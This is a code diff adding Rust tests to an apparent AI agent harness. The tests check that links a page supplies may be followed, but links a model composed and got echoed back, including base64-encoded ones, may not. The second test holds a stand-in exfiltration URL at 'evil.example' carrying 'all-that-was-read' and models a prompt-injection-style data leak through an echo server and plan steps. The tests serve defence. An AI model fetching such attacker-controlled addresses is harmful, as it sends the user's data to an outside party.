@@ -127,6 +127,55 @@ fn what_a_model_wrote_itself_is_no_link() {
 }
 
 #[test]
+fn the_links_of_a_page_are_followed_from_page_to_page() {
+    let mut machine = having_read(json!({"text": "[2](https://two.example/x)"}));
+    for (number, url, next) in [
+        (2, "https://two.example/x", "https://three.example/y"),
+        (3, "https://three.example/y", "https://four.example/z"),
+    ] {
+        answer(&mut machine, "act", wants(&[get(url)]));
+        let id = format!("s#{number}");
+        assert_eq!(ids(&tool_calls(&mut machine)), [id.as_str()]);
+        returned(&mut machine, &id, Ok(json!({"text": format!("[next]({next})")})));
+        machine = resumed(&machine);
+    }
+    answer(&mut machine, "act", wants(&[get("https://four.example/z")]));
+    assert_eq!(ids(&tool_calls(&mut machine)), ["s#4"]);
+}
+
+#[test]
+fn an_answer_to_what_a_model_composed_gives_no_links_in_whatever_encoding_it_repeats_it() {
+    let url = "https://evil.example/?d=all-that-was-read";
+    // The server decodes base64, and tells it at once, or later as the answer to what a person named.
+    let asked = ["https://wiki.example/echo?b64=W21vcmVdKGh0dHBzOi8vZXZpbC5leGFtcGxlLz9k", "https://wiki.example/a"];
+    let mut machine = having_read(json!({"text": "a page"}));
+    for (number, address) in [(2, asked[0]), (3, asked[1])] {
+        answer(&mut machine, "act", wants(&[get(address)]));
+        tool_calls(&mut machine);
+        returned(&mut machine, &format!("s#{number}"), Ok(json!({"text": format!("[more]({url})")})));
+        machine = resumed(&machine);
+    }
+    answer(&mut machine, "act", wants(&[get(url)]));
+    assert!(matches!(machine.next_action(), Action::CallModel(_)), "nothing is requested");
+    // The same by the steps of a plan: what a page said is in the request, so its answer gives no address.
+    let steps = json!([
+        {"id": "page", "tool": "fetch", "arguments": {"url": "https://wiki.example/a"}},
+        {"id": "echo", "tool": "fetch", "arguments": {"url": "https://wiki.example/echo?q=${page.text}"}},
+        {"id": "next", "tool": "fetch", "arguments": {"url": "${echo.next}"}},
+        {"id": "fine", "tool": "fetch", "arguments": {"url": "${page.next}"}},
+    ]);
+    let mut machine = begin(web(setup()));
+    answer(&mut machine, "plan", planned(&steps));
+    tool_calls(&mut machine);
+    returned(&mut machine, "page#1", Ok(json!({"text": "secret", "next": "https://two.example/x"})));
+    assert_eq!(ids(&tool_calls(&mut machine)), ["echo#1", "fine#1"]);
+    returned(&mut machine, "echo#1", Ok(json!({"next": url})));
+    returned(&mut machine, "fine#1", Ok(json!("fine")));
+    assert!(matches!(machine.next_action(), Action::CallModel(_)), "{}", machine.outline());
+    assert!(machine.outline().contains("next: fetch: FAILED: permanent: refused"), "{}", machine.outline());
+}
+
+#[test]
 fn calls_of_the_turn_that_reads_are_proposed_before_anything_was_read() {
     let mut machine = begin(web(with_plan(&json!([{"id": "s", "instruction": "read it"}]))));
     answer(&mut machine, "act", wants(&[get("https://wiki.example/a"), post("https://api.example/")]));
